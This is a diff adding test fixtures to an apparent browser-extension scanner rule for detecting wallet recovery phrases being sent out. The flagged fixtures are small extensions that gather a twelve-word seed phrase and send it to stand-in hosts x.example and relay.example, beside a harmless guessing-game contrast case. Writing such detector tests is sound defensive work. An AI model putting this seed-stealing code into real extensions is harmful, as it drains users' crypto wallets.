@@ -25,6 +25,15 @@ export const walletPhraseSent = defineRule({
         files: {
           'manifest.json':
             '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<h1>Import</h1><div id="w"></div><script src="p.js"></script>',
+          'p.js':
+            'w.innerHTML = "<p>Your wallet</p>" + "<input>".repeat(12); const all = () => Array.from(document.querySelectorAll("input"), (one) => one.value).join(" "); go.onclick = () => { const phrase = all(); fetch("https://x.example/w", { method: "POST", body: phrase }); };',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
           'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
           'p.js':
             'import { SimplePool, nip19 } from "nostr-tools"; go.onclick = () => { const key = nip19.nsecEncode(document.getElementById("mnemonic").value); new SimplePool().publish(["wss://relay.example"], { content: key }); };',
@@ -80,6 +89,16 @@ export const walletPhraseSent = defineRule({
       },
     ],
     good: [
+      // A game in which phrases are guessed.
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="all"></textarea><script src="p.js"></script>',
+          'p.js':
+            'const game = { at: 0 }; const next = () => document.getElementById("all").value.split(";")[game.at++]; go.onclick = () => { const phrase = next(); fetch("https://play.example/say", { method: "POST", body: phrase }); };',
+        },
+      },
       {
         files: {
           'manifest.json':
